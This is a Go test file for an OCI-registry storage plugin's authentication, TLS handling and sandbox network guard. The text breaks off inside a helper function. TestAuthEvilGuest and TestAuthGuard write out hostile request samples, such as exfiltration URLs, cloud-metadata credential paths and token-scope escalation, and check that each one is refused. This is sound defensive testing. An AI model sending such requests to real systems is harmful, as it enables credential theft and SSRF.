package host_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PlakarKorp/kloset/connectors/storage"

	"github.com/plakar-oci/ocistore/host"
	"github.com/plakar-oci/ocistore/host/session"
	"github.com/plakar-oci/ocistore/internal/registrytest"
)

// Authentication, TLS and the sandbox's reach, against real registries on
// 127.0.0.1: distribution v3 over TLS with htpasswd and with token
// authentication (a token server issuing real JWTs), a front that
// redirects blob downloads, and a guest that tries to reach other hosts.

const (
	authUser     = "alice"
	authPassword = "s3cret-Pa55word-that-must-not-leak"
)

// logBuffer collects log records; safe for concurrent use.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

func debugLogger(w io.Writer) *slog.Logger {
	return slog.New(slog.NewTextHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug}))
}

// authPluginLog receives what the plugin of these tests logs itself (the
// guest's output), for the tests that look for secrets.
var authPluginLog logBuffer

var authPlugin = sync.OnceValues(func() (*host.Plugin, error) {
	return host.Load(context.Background(), host.EmbeddedGuest(), host.Options{Logger: debugLogger(&authPluginLog)})
})

// authStore makes a store over the embedded guest that logs at debug level
// to logs.
func authStore(t *testing.T, config map[string]string, logs io.Writer, opts ...host.StoreOption) *host.Store {
	t.Helper()
	p, err := authPlugin()
	if err != nil {
		t.Fatal(err)
	}
	return newAuthStore(t, p, config, logs, opts...)
}

func newAuthStore(t *testing.T, p *host.Plugin, config map[string]string, logs io.Writer, opts ...host.StoreOption) *host.Store {
	t.Helper()
	s, err := host.NewStore(context.Background(), p, config, append([]host.StoreOption{host.WithLogger(debugLogger(logs))}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close(context.Background()) })
	return s
}

// noAmbientCredentials keeps the test from using the credentials of the
// machine it runs on: no environment variables, an empty Docker
// configuration.
func noAmbientCredentials(t *testing.T) string {
	dir := t.TempDir()
	t.Setenv("HOME", dir)
	t.Setenv("DOCKER_CONFIG", filepath.Join(dir, ".docker"))
	t.Setenv("REGISTRY_AUTH_FILE", filepath.Join(dir, "none.json"))
	t.Setenv("XDG_RUNTIME_DIR", dir)
	t.Setenv("XDG_CONFIG_HOME", dir)
	for _, k := range []string{host.EnvUsername, host.EnvPassword, host.EnvToken} {
		t.Setenv(k, "")
	}
	return dir
}

// tagged marks the requests of a store with a User-Agent, so that they can
// be told apart in the registry's access log.
func tagged(tag string) host.StoreOption {
	return host.WithTransport(func(next http.RoundTripper) http.RoundTripper {
		return roundTripFunc(func(r *http.Request) (*http.Response, error) {
			r = r.Clone(r.Context())
			r.Header.Set("User-Agent", tag)
			return next.RoundTrip(r)
		})
	})
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// accessCount counts the requests of the store tagged tag in the
// registry's access log. A line is written as its answer goes out, so the
// count may miss the very last requests: tests use it as an upper bound.
var accessLine = regexp.MustCompile(`"(GET|HEAD|POST|PUT|PATCH|DELETE) /v2/[^\n]*`)

func accessCount(r *registrytest.Registry, tag string) int {
	n := 0
	for _, line := range accessLine.FindAllString(r.Log(), -1) {
		if strings.Contains(line, tag) {
			n++
		}
	}
	return n
}

// useStore runs every kind of call on s and fails t on any error.
func useStore(t *testing.T, s *host.Store, deletes bool) {
	t.Helper()
	ctx := context.Background()
	if err := s.Ping(ctx); err != nil {
		t.Fatalf("ping: %v", err)
	}
	if err := s.Create(ctx, []byte("config")); err != nil {
		t.Fatalf("create: %v", err)
	}
	if got, err := s.Open(ctx); err != nil || string(got) != "config" {
		t.Fatalf("open: %q, %v", got, err)
	}
	mac, data := randomMAC(), randomBytes(100_000)
	put(t, s, storage.StorageResourcePackfile, mac, data)
	if got := get(t, s, storage.StorageResourcePackfile, mac, &storage.Range{Offset: 10, Length: 100}); !bytes.Equal(got, data[10:110]) {
		t.Fatal("range get returned other bytes")
	}
	if got := list(t, s, storage.StorageResourcePackfile); !sameMACs(got, mac) {
		t.Fatalf("list: %d MACs, want 1", len(got))
	}
	if deletes {
		if err := s.Delete(ctx, storage.StorageResourcePackfile, mac); err != nil {
			t.Fatalf("delete: %v", err)
		}
		if got := list(t, s, storage.StorageResourcePackfile); len(got) != 0 {
			t.Fatalf("list after delete: %d MACs", len(got))
		}
	}
}

// noSecret fails t if any of texts holds one of secrets.
func noSecret(t *testing.T, what string, text string, secrets ...string) {
	t.Helper()
	for _, s := range secrets {
		if s != "" && strings.Contains(text, s) {
			t.Errorf("%s holds a secret (%.12s…)", what, s)
		}
	}
}

// noSecretInDir fails t if a file under dir holds one of secrets.
func noSecretInDir(t *testing.T, dir string, secrets ...string) {
	t.Helper()
	n := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		n++
		noSecret(t, path, string(b), secrets...)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n == 0 {
		t.Fatalf("nothing stored under %s", dir)
	}
}

func TestAuthBasicTLS(t *testing.T) {
	noAmbientCredentials(t)
	ca := registrytest.NewCA(t)
	r := registrytest.DistributionAuth(t, registrytest.AuthOptions{
		Options:  registrytest.Options{Delete: true, AccessLog: true},
		CA:       ca,
		Users:    map[string]string{authUser: authPassword},
		LogLevel: "debug",
	})
	location := "oci://" + r.Host + "/auth/basic"
	logs := &logBuffer{}

	t.Run("ca_file", func(t *testing.T) {
		useStore(t, authStore(t, map[string]string{
			"location": location, "username": authUser, "password": authPassword, "ca_file": ca.CertPath,
		}, logs), true)
	})

	t.Run("certificate verified by default", func(t *testing.T) {
		// A loopback registry defaults to plain HTTP: use_tls asks for
		// TLS, and the test CA is not trusted without ca_file.
		err := authStore(t, map[string]string{
			"location": location, "username": authUser, "password": authPassword, "use_tls": "true",
		}, logs).Ping(context.Background())
		if err == nil || !strings.Contains(err.Error(), "TLS handshake with registry "+r.Host) || !strings.Contains(err.Error(), "ca_file") {
			t.Fatalf("ping with an unknown CA: %v; want a TLS error that names the registry and ca_file", err)
		}
	})

	t.Run("plain HTTP by default", func(t *testing.T) {
		// A loopback registry defaults to plain HTTP, which an HTTPS
		// registry answers 400.
		err := authStore(t, map[string]string{
			"location": location, "username": authUser, "password": authPassword,
		}, logs).Ping(context.Background())
		if err == nil || !strings.Contains(err.Error(), "registry "+r.Host+" speaks HTTPS") || !strings.Contains(err.Error(), "use_tls=true") || !strings.Contains(err.Error(), "ca_file") {
			t.Fatalf("ping of an HTTPS registry with plain HTTP: %v; want an error saying it speaks HTTPS, naming use_tls and ca_file", err)
		}
	})

	t.Run("tls_insecure_no_verify", func(t *testing.T) {
		l := &logBuffer{}
		s := authStore(t, map[string]string{
			"location": location, "username": authUser, "password": authPassword, "tls_insecure_no_verify": "true",
		}, l)
		if err := s.Ping(context.Background()); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(l.String(), "level=WARN") || !strings.Contains(l.String(), "tls_insecure_no_verify") {
			t.Fatalf("no warning about tls_insecure_no_verify; logs:\n%s", l)
		}
		logs.Write([]byte(l.String()))
	})

	t.Run("wrong password", func(t *testing.T) {
		wrong := "wrong-" + authPassword
		s := authStore(t, map[string]string{
			"location": location, "username": authUser, "password": wrong, "ca_file": ca.CertPath,
		}, logs, tagged("basic-wrong-password"))
		ctx := context.Background()
		const calls = 4
		var errs []error
		errs = append(errs, s.Ping(ctx))
		_, err := s.Open(ctx)
		errs = append(errs, err)
		_, err = s.Put(ctx, storage.StorageResourcePackfile, randomMAC(), bytes.NewReader(randomBytes(1000)))
		errs = append(errs, err)
		_, err = s.List(ctx, storage.StorageResourceState)
		errs = append(errs, err)
		for _, err := range errs {
			if !errors.Is(err, fs.ErrPermission) {
				t.Fatalf("got %v, want fs.ErrPermission", err)
			}
			msg := err.Error()
			for _, want := range []string{r.Host, "check username and password", `username "alice"`} {
				if !strings.Contains(msg, want) {
					t.Errorf("message %q does not say %q", msg, want)
				}
			}
			noSecret(t, "error "+msg, msg, wrong, authPassword)
		}
		// One request to learn that the registry wants basic
		// authentication, then one per call, and one more for the list,
		// whose first page and marker probe go out together: no retries.
		n := accessCount(r, "basic-wrong-password")
		t.Logf("%d requests for %d calls", n, calls)
		if n > calls+2 {
			t.Fatalf("%d requests for %d calls with a wrong password: the store retries", n, calls)
		}
		t.Logf("ping with a wrong password: %v", errs[0])
		logs.Write([]byte(fmt.Sprint(errs)))
	})

	t.Run("no secrets", func(t *testing.T) {
		all := logs.String() + authPluginLog.String()
		if !strings.Contains(all, "level=DEBUG") {
			t.Fatal("no debug logs captured")
		}
		noSecret(t, "the store's logs", all, authPassword)
		noSecret(t, "the registry's log", r.Log(), authPassword)
		noSecretInDir(t, r.Dir, authPassword)
		c, err := host.ParseConfig(map[string]string{"location": location, "username": authUser, "password": authPassword})
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		fmt.Fprintf(&b, "%v %+v %#v %s", c, c, c, c)
		fmt.Fprintf(&b, "%v %+v %#v", *c, *c, *c)
		debugLogger(&b).Info("config", "config", c, "value", *c)
		noSecret(t, "a printed Config", b.String(), authPassword)
	})
}

// startTokenRegistry starts distribution with token authentication over
// TLS, and its token server.
func startTokenRegistry(t *testing.T) (*registrytest.CA, *registrytest.TokenServer, *registrytest.Registry) {
	t.Helper()
	ca := registrytest.NewCA(t)
	ts := registrytest.NewTokenServer(t, ca, map[string]string{authUser: authPassword})
	r := registrytest.DistributionAuth(t, registrytest.AuthOptions{
		Options:  registrytest.Options{Delete: true, AccessLog: true},
		CA:       ca,
		Token:    ts,
		LogLevel: "debug",
	})
	return ca, ts, r
}

func TestAuthToken(t *testing.T) {
	noAmbientCredentials(t)
	ca, ts, r := startTokenRegistry(t)
	const repo = "auth/token"
	config := map[string]string{
		"location": "oci://" + r.Host + "/" + repo, "username": authUser, "password": authPassword, "ca_file": ca.CertPath,
	}
	logs := &logBuffer{}
	ctx := context.Background()

	t.Run("one token for concurrent calls", func(t *testing.T) {
		s := authStore(t, config, logs)
		var wg sync.WaitGroup
		errs := make(chan error, 16)
		for range 16 {
			wg.Go(func() {
				if _, err := s.Put(ctx, storage.StorageResourceState, randomMAC(), bytes.NewReader(randomBytes(5000))); err != nil {
					errs <- err
				}
			})
		}
		wg.Wait()
		close(errs)
		for err := range errs {
			t.Fatal(err)
		}
		if n, _ := ts.Requests(); n != 1 {
			t.Fatalf("%d token requests for 16 concurrent puts, want 1 shared token", n)
		}
		// Delete needs more than pull and push: one more token, for the
		// store's repository only.
		mac := randomMAC()
		put(t, s, storage.StorageResourceLock, mac, []byte("lock"))
		if err := s.Delete(ctx, storage.StorageResourceLock, mac); err != nil {
			t.Fatal(err)
		}
		if n, _ := ts.Requests(); n != 2 {
			t.Fatalf("%d token requests after a delete, want 2", n)
		}
		scopes := ts.Scopes()
		if scopes[0] != "repository:"+repo+":pull,push" || scopes[1] != "repository:"+repo+":pull,push,delete" {
			t.Fatalf("scopes asked for: %q", scopes)
		}
	})

	t.Run("every call", func(t *testing.T) {
		// A repository of its own: create refuses one that holds objects.
		c := maps.Clone(config)
		c["location"] += "-calls"
		useStore(t, authStore(t, c, logs), true)
	})

	t.Run("read-only credentials", func(t *testing.T) {
		ts.SetActions("pull")
		defer ts.SetActions("pull", "push", "delete")
		c := map[string]string{"location": "oci://" + r.Host + "/auth/readonly", "username": authUser, "password": authPassword, "ca_file": ca.CertPath}
		_, err := authStore(t, c, logs).Put(ctx, storage.StorageResourcePackfile, randomMAC(), bytes.NewReader([]byte("x")))
		if !errors.Is(err, fs.ErrPermission) || !strings.Contains(err.Error(), "did not grant") {
			t.Fatalf("put with pull-only tokens: %v; want a permission error saying what was not granted", err)
		}
	})

	t.Run("wrong password", func(t *testing.T) {
		wrong := "wrong-" + authPassword
		c := map[string]string{"location": config["location"], "username": authUser, "password": wrong, "ca_file": ca.CertPath}
		s := authStore(t, c, logs, tagged("token-wrong-password"))
		tokenBefore, _ := ts.Requests()
		for i := range 5 {
			err := s.Ping(ctx)
			if i == 2 {
				_, err = s.Put(ctx, storage.StorageResourcePackfile, randomMAC(), bytes.NewReader(randomBytes(100)))
			}
			if !errors.Is(err, fs.ErrPermission) {
				t.Fatalf("call %d: %v, want fs.ErrPermission", i, err)
			}
			msg := err.Error()
			for _, want := range []string{r.Host, "check username and password", `username "alice"`, "token service"} {
				if !strings.Contains(msg, want) {
					t.Errorf("message %q does not say %q", msg, want)
				}
			}
			noSecret(t, "error "+msg, msg, wrong, authPassword)
			if i == 0 {
				t.Logf("ping with a wrong password: %v", err)
			}
		}
		tokens, _ := ts.Requests()
		if tokens-tokenBefore != 1 {
			t.Fatalf("%d token requests for 5 calls with a wrong password, want 1", tokens-tokenBefore)
		}
		if n := accessCount(r, "token-wrong-password"); n > 1 {
			t.Fatalf("%d requests to the registry for 5 calls with a wrong password, want 1", n)
		}
		if !strings.Contains(logs.String(), "refused the credentials") {
			t.Fatal("the refusal is not logged")
		}
	})

	t.Run("no secrets", func(t *testing.T) {
		secrets := append([]string{authPassword}, ts.Issued()...)
		if len(secrets) < 3 {
			t.Fatalf("only %d tokens issued", len(secrets)-1)
		}
		noSecret(t, "the store's logs", logs.String()+authPluginLog.String(), secrets...)
		noSecret(t, "the registry's log", r.Log(), authPassword)
		noSecretInDir(t, r.Dir, secrets...)
	})
}

// TestAuthTokenExpiry runs puts across the expiry of short-lived tokens:
// first tokens that say how long they last (refreshed before they expire),
// then tokens the registry stops accepting long before they say (refreshed
// when the registry rejects them, and the request made again).
func TestAuthTokenExpiry(t *testing.T) {
	noAmbientCredentials(t)
	ca, ts, r := startTokenRegistry(t)
	for _, c := range []struct {
		name             string
		expiresIn, valid time.Duration
	}{
		{"expires_in", 2 * time.Second, 2 * time.Second},
		{"rejected by the registry", time.Hour, 2 * time.Second},
	} {
		t.Run(c.name, func(t *testing.T) {
			ts.SetLifetime(c.expiresIn, c.valid)
			s := authStore(t, map[string]string{
				"location": "oci://" + r.Host + "/auth/expiry", "username": authUser, "password": authPassword, "ca_file": ca.CertPath,
			}, io.Discard)
			before, _ := ts.Requests()
			const span = 5 * time.Second
			deadline := time.Now().Add(span)
			tick := time.NewTicker(50 * time.Millisecond)
			defer tick.Stop()
			n := 0
			for time.Now().Before(deadline) {
				mac, data := randomMAC(), randomBytes(20_000)
				put(t, s, storage.StorageResourcePackfile, mac, data)
				if got := get(t, s, storage.StorageResourcePackfile, mac, nil); !bytes.Equal(got, data) {
					t.Fatal("get returned other bytes")
				}
				n++
				<-tick.C
			}
			after, refused := ts.Requests()
			tokens := after - before
			// 5 s of tokens that last 2 to 3 s: 2 to 4 tokens, and a
			// few more at most, never one per request.
			if tokens < 2 || tokens > 6 || refused != 0 {
				t.Fatalf("%d tokens (%d refused) for %d puts over %v of %v tokens", tokens, refused, n, span, c.valid)
			}
			t.Logf("%d puts, %d tokens", n, tokens)
		})
	}
}

func TestAuthCredentialSources(t *testing.T) {
	ca := registrytest.NewCA(t)
	r := registrytest.DistributionAuth(t, registrytest.AuthOptions{
		CA:    ca,
		Users: map[string]string{authUser: authPassword},
	})
	config := map[string]string{"location": "oci://" + r.Host + "/auth/sources", "ca_file": ca.CertPath}
	ping := func(t *testing.T) error {
		t.Helper()
		return authStore(t, config, io.Discard).Ping(context.Background())
	}

	t.Run("none", func(t *testing.T) {
		noAmbientCredentials(t)
		err := ping(t)
		if !errors.Is(err, fs.ErrPermission) || !strings.Contains(err.Error(), "no credentials were found") {
			t.Fatalf("ping without credentials: %v; want a permission error saying none were found", err)
		}
	})
	t.Run("environment", func(t *testing.T) {
		noAmbientCredentials(t)
		t.Setenv(host.EnvUsername, authUser)
		t.Setenv(host.EnvPassword, authPassword)
		if err := ping(t); err != nil {
			t.Fatal(err)
		}
		t.Setenv(host.EnvPassword, "")
		if _, err := host.NewStore(context.Background(), must(authPlugin()), config); !errors.Is(err, host.ErrInvalidConfig) {
			t.Fatalf("only %s set: %v, want an invalid configuration", host.EnvUsername, err)
		}
	})
	t.Run("docker config.json", func(t *testing.T) {
		dir := noAmbientCredentials(t)
		auth := base64.StdEncoding.EncodeToString([]byte(authUser + ":" + authPassword))
		writeFile(t, filepath.Join(dir, ".docker", "config.json"), fmt.Sprintf(`{"auths":{%q:{"auth":%q}}}`, r.Host, auth))
		if err := ping(t); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("docker credential helper", func(t *testing.T) {
		dir := noAmbientCredentials(t)
		writeFile(t, filepath.Join(dir, ".docker", "config.json"), fmt.Sprintf(`{"credHelpers":{%q:"ocistoretest"}}`, r.Host))
		bin := filepath.Join(dir, "bin")
		writeFile(t, filepath.Join(bin, "docker-credential-ocistoretest"),
			fmt.Sprintf("#!/bin/sh\ncat >/dev/null\necho '{\"Username\":%q,\"Secret\":%q}'\n", authUser, authPassword))
		if err := os.Chmod(filepath.Join(bin, "docker-credential-ocistoretest"), 0o755); err != nil {
			t.Fatal(err)
		}
		t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
		if err := ping(t); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("configuration first", func(t *testing.T) {
		noAmbientCredentials(t)
		t.Setenv(host.EnvUsername, "mallory")
		t.Setenv(host.EnvPassword, "wrong")
		c := map[string]string{"location": config["location"], "ca_file": ca.CertPath, "username": authUser, "password": authPassword}
		if err := authStore(t, c, io.Discard).Ping(context.Background()); err != nil {
			t.Fatal(err)
		}
	})
}

func TestAuthConfig(t *testing.T) {
	ca := registrytest.NewCA(t)
	for _, c := range []struct {
		config map[string]string
		tls    bool
		err    bool
	}{
		{map[string]string{"location": "oci://127.0.0.1:5000/r"}, false, false},
		{map[string]string{"location": "oci://localhost:5000/r"}, false, false},
		{map[string]string{"location": "oci://registry.example/r"}, true, false},
		{map[string]string{"location": "oci://127.0.0.1:5000/r", "ca_file": ca.CertPath}, true, false},
		{map[string]string{"location": "oci://127.0.0.1:5000/r", "tls_insecure_no_verify": "true"}, true, false},
		{map[string]string{"location": "oci://127.0.0.1:5000/r", "ca_file": ca.CertPath, "use_tls": "false"}, false, true},
		{map[string]string{"location": "oci://registry.example/r", "use_tls": "false"}, false, false},
		{map[string]string{"location": "oci://registry.example/r", "token": "t", "username": "u", "password": "p"}, true, true},
		{map[string]string{"location": "oci://registry.example/r", "token": "t"}, true, false},
	} {
		got, err := host.ParseConfig(c.config)
		switch {
		case c.err && !errors.Is(err, host.ErrInvalidConfig):
			t.Errorf("ParseConfig(%v): %v, want an invalid configuration", c.config, err)
		case !c.err && err != nil:
			t.Errorf("ParseConfig(%v): %v", c.config, err)
		case !c.err && got.UseTLS != c.tls:
			t.Errorf("ParseConfig(%v): UseTLS %t, want %t", c.config, got.UseTLS, c.tls)
		}
	}

	t.Run("plain HTTP is a warning", func(t *testing.T) {
		noAmbientCredentials(t)
		logs := &logBuffer{}
		authStore(t, map[string]string{"location": "oci://registry.example/r", "use_tls": "false"}, logs)
		if !strings.Contains(logs.String(), "level=WARN") || !strings.Contains(logs.String(), "plain HTTP") {
			t.Fatalf("no warning for plain HTTP to a remote registry; logs:\n%s", logs)
		}
		logs = &logBuffer{}
		authStore(t, map[string]string{"location": "oci://127.0.0.1:5000/r"}, logs)
		if strings.Contains(logs.String(), "level=WARN") {
			t.Fatalf("a warning for the plain-HTTP default of a loopback registry; logs:\n%s", logs)
		}
	})
}

// countingServer is an HTTP server that counts the connections made to
// it: nothing should reach it.
type countingServer struct {
	*httptest.Server
	conns atomic.Int32
}

func newCountingServer(t *testing.T, addr string) *countingServer {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	c := &countingServer{}
	c.Server = &httptest.Server{Listener: ln, Config: &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "exfiltrated") }),
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				c.conns.Add(1)
			}
		},
	}}
	c.Start()
	t.Cleanup(c.Close)
	return c
}

// TestAuthRedirect puts a front before a registry that requires basic
// authentication over TLS and answers blob downloads with redirects.
func TestAuthRedirect(t *testing.T) {
	noAmbientCredentials(t)
	ca := registrytest.NewCA(t)
	inner := registrytest.InProcess(t)
	innerURL, err := url.Parse(inner.URL)
	if err != nil {
		t.Fatal(err)
	}
	other := newCountingServer(t, "127.0.0.1:0")

	// The blob host: another loopback address, over TLS, serving what the
	// registry holds. It records the Authorization headers it gets.
	var blobAuth []string
	var blobMu sync.Mutex
	blobLn, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	blobProxy := httputil.NewSingleHostReverseProxy(innerURL)
	blob := &httptest.Server{Listener: blobLn, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		blobMu.Lock()
		blobAuth = append(blobAuth, r.Header.Get("Authorization"))
		blobMu.Unlock()
		blobProxy.ServeHTTP(w, r)
	})}}
	ca.StartTLS(t, blob)
	t.Cleanup(blob.Close)

	var mode atomic.Value
	mode.Store("")
	wantAuth := "Basic " + base64.StdEncoding.EncodeToString([]byte(authUser+":"+authPassword))
	frontProxy := httputil.NewSingleHostReverseProxy(innerURL)
	front := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != wantAuth {
			w.Header().Set("WWW-Authenticate", `Basic realm="front"`)
			http.Error(w, `{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}`, http.StatusUnauthorized)
			return
		}
		if r.Method == http.MethodGet && strings.Contains(r.URL.Path, "/blobs/sha256:") {
			switch m := mode.Load().(string); m {
			case "plain":
				http.Redirect(w, r, other.URL+r.URL.Path+"?sig=signature", http.StatusTemporaryRedirect)
				return
			case "metadata":
				http.Redirect(w, r, "https://169.254.169.254/latest/meta-data/?sig=signature", http.StatusTemporaryRedirect)
				return
			case "blob host":
				http.Redirect(w, r, blob.URL+r.URL.Path+"?sig=signature", http.StatusTemporaryRedirect)
				return
			}
		}
		frontProxy.ServeHTTP(w, r)
	}))
	ca.StartTLS(t, front)
	t.Cleanup(front.Close)

	logs := &logBuffer{}
	s := authStore(t, map[string]string{
		"location": "oci://" + strings.TrimPrefix(front.URL, "https://") + "/auth/redirect",
		"username": authUser, "password": authPassword, "ca_file": ca.CertPath,
	}, logs)
	mac, data := randomMAC(), randomBytes(50_000)
	put(t, s, storage.StorageResourcePackfile, mac, data)

	for _, c := range []struct{ mode, want string }{
		{"plain", "https URL only"},
		{"metadata", "link-local"},
	} {
		t.Run(c.mode, func(t *testing.T) {
			mode.Store(c.mode)
			_, err := s.Get(context.Background(), storage.StorageResourcePackfile, mac, nil)
			if err == nil || !strings.Contains(err.Error(), "refused") || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("get redirected (%s): %v; want a refusal saying %q", c.mode, err, c.want)
			}
			if strings.Contains(err.Error(), "signature") {
				t.Fatalf("the error shows the redirect's query: %v", err)
			}
		})
	}
	if n := other.conns.Load(); n != 0 {
		t.Fatalf("the host the registry redirected to over plain HTTP got %d connections", n)
	}
	if !strings.Contains(logs.String(), "level=WARN") {
		t.Fatal("refused redirects are not logged as warnings")
	}

	t.Run("blob host", func(t *testing.T) {
		mode.Store("blob host")
		if got := get(t, s, storage.StorageResourcePackfile, mac, nil); !bytes.Equal(got, data) {
			t.Fatal("get through the blob host returned other bytes")
		}
		blobMu.Lock()
		defer blobMu.Unlock()
		if len(blobAuth) == 0 {
			t.Fatal("the download was not redirected to the blob host")
		}
		for _, a := range blobAuth {
			if a != "" {
				t.Fatalf("the blob host got credentials: Authorization %q", a)
			}
		}
	})
}

// TestAuthGuard checks the dial-time address policy: a name that resolves
// to an address the policy refuses is refused when it is dialled.
func TestAuthGuard(t *testing.T) {
	local := newCountingServer(t, "127.0.0.1:0")
	_, port, _ := net.SplitHostPort(local.Listener.Addr().String())
	ctx := context.Background()

	remote, err := session.NewGuard("https://registry.example", slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	for _, addr := range []string{
		"localhost:" + port,       // resolves to this machine: DNS rebinding's target
		"127.0.0.1:" + port,       // this machine, for a registry elsewhere
		"169.254.169.254:80",      // cloud metadata
		"[64:ff9b::a9fe:a9fe]:80", // metadata through NAT64
		"[fd00:ec2::254]:80",      // AWS metadata over IPv6
		"0.0.0.0:" + port,         // reaches this machine
	} {
		conn, err := remote.DialContext(ctx, "tcp", addr)
		var refused *session.RefusedError
		if !errors.As(err, &refused) {
			if conn != nil {
				conn.Close()
			}
			t.Errorf("dial %s for a remote registry: %v, want a RefusedError", addr, err)
		}
	}
	if n := local.conns.Load(); n != 0 {
		t.Fatalf("%d connections reached this machine", n)
	}

	loopback, err := session.NewGuard("http://127.0.0.1:"+port, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, addr := range []string{"localhost:" + port, "127.0.0.1:" + port} {
		conn, err := loopback.DialContext(ctx, "tcp", addr)
		if err != nil {
			t.Fatalf("dial %s for a loopback registry: %v", addr, err)
		}
		conn.Close()
	}
	if _, err := loopback.DialContext(ctx, "tcp", "169.254.169.254:80"); err == nil {
		t.Fatal("the metadata address is allowed for a loopback registry")
	}
}

// TestAuthEvilGuest runs a guest that tries to reach hosts other than its
// registry, and the registry's token service, directly.
func TestAuthEvilGuest(t *testing.T) {
	noAmbientCredentials(t)
	start := time.Now()
	wasm := buildEvilGuest(t)
	t.Logf("built in %v", time.Since(start))
	logs := &logBuffer{}
	p, err := host.Load(context.Background(), wasm, host.Options{Logger: debugLogger(logs)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close(context.Background()) })
	t.Logf("loaded in %v", time.Since(start))

	ca, ts, r := startTokenRegistry(t)
	_, regPort, _ := net.SplitHostPort(r.Host)
	other := newCountingServer(t, "127.0.0.1:0")
	otherHost := other.Listener.Addr().String()
	// Another host on the registry's port.
	sibling := newCountingServer(t, "127.0.0.2:"+regPort)
	realm, err := url.Parse(ts.URL)
	if err != nil {
		t.Fatal(err)
	}

	s := newAuthStore(t, p, map[string]string{
		"location": "oci://" + r.Host + "/auth/evil", "username": authUser, "password": authPassword, "ca_file": ca.CertPath,
	}, logs)
	script := []string{
		"GET " + other.URL + "/exfiltrate",
		"GET //" + otherHost + "/exfiltrate",
		"PUT http://" + otherHost + "/upload",
		"GET " + sibling.URL + "/v2/",
		"GET https://127.0.0.2:" + regPort + "/v2/",
		"GET http://localhost:" + strconv.Itoa(other.Listener.Addr().(*net.TCPAddr).Port) + "/",
		"GET http://" + r.Host + "/v2/",
		"GET https://" + r.Host + "@" + otherHost + "/v2/",
		"GET https://mallory:guess@" + r.Host + "/v2/",
		"GET http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"GET http://[fd00:ec2::254]/latest/meta-data/",
		"GET " + realm.String() + "?scope=repository:other:pull,push",
		"GET " + realm.Scheme + "://" + realm.Host + "/",
	}
	_, err = s.Put(context.Background(), storage.StorageResourcePackfile, randomMAC(),
		strings.NewReader(strings.Join(script, "\n")+"\nGET /v2/ Host="+otherHost))
	if err == nil {
		t.Fatal("the evil guest's put succeeded: it reports every attempt as an error")
	}
	t.Logf("what the evil guest got:\n%v", err)
	report := strings.Split(err.Error(), "\n")
	if len(report) != len(script)+1 {
		t.Fatalf("report of %d lines for %d requests:\n%s", len(report), len(script)+1, err)
	}
	for i, line := range report[:len(script)] {
		if !strings.Contains(line, "=> refused: ") || !strings.Contains(line, "outside the store's registry") {
			t.Errorf("request %q was not refused: %s", script[i], line)
		}
	}
	// The registry itself, with the Host header set to the other host,
	// is reached, with the credentials the host adds: the guest's
	// headers do not move requests.
	if last := report[len(script)]; !strings.HasSuffix(last, "=> 200") {
		t.Errorf("GET /v2/ on the registry: %s, want 200", last)
	}
	if n := other.conns.Load() + sibling.conns.Load(); n != 0 {
		t.Fatalf("%d connections to hosts other than the registry", n)
	}
	// One token, fetched by the host for GET /v2/; the guest's requests
	// to the token service never left.
	if n, _ := ts.Requests(); n != 1 {
		t.Fatalf("the token service got %d requests, want the host's 1", n)
	}
	if got := strings.Count(logs.String(), "refused a destination outside the store's registry"); got < len(script) {
		t.Fatalf("%d refusals logged for %d refused requests", got, len(script))
	}
	noSecret(t, "the report", err.Error(), authPassword)
}

// buildEvilGuest builds testdata/evilguest.
func buildEvilGuest(t *testing.T) []byte {
	t.Helper()
	goCmd, err := exec.LookPath("go")
	if err != nil {
		goCmd = filepath.Join(os.Getenv("GOROOT"), "bin", "go")
	}
	out := filepath.Join(t.TempDir(), "evil.wasm")
	cmd := exec.Command(goCmd, "build", "-buildmode=c-shared", "-o", out, "./testdata/evilguest")
	cmd.Env = append(os.Environ(), "GOOS=wasip1", "GOARCH=wasm")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building the evil guest: %v\n%s", err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
